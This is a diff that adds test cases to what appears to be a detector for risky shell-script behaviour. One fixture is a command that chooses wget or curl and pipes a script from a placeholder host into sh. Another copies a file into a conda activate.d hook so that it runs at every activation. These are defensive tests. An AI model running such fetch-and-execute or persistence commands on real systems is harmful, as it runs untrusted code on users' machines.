@@ -429,6 +429,18 @@ describe("functions that run their arguments", () => {
   });
 });
 
+describe("what a && … || … list prints", () => {
+  it("is one branch's text: the downloader a script picks is one command, not both", () => {
+    const c = run(`t=$(command -v wget >/dev/null && echo 'wget -qO-' || echo 'curl -fsS')\n$t "https://h.invalid/x.sh" | sh\n`);
+    expect(of(c, "exec").map((e) => [e.command.text, e.fetched])).toContainEqual(["wget -qO- https://h.invalid/x.sh | sh", "https://h.invalid/x.sh"]);
+  });
+
+  it("a write into a conda environment's activate.d runs at every activation", () => {
+    const [w] = of(run(`cp hooks/env.sh "$CONDA_PREFIX/etc/conda/activate.d/env.sh"\n`, { files: ["hooks/env.sh"] }), "write");
+    expect(w?.place).toBe("shell-rc");
+  });
+});
+
 describe("values set only under a condition, and arrays read from a here-string", () => {
   const deletes = (src: string) => of(run(src), "delete").map((d) => [d.path, d.scope]);
 
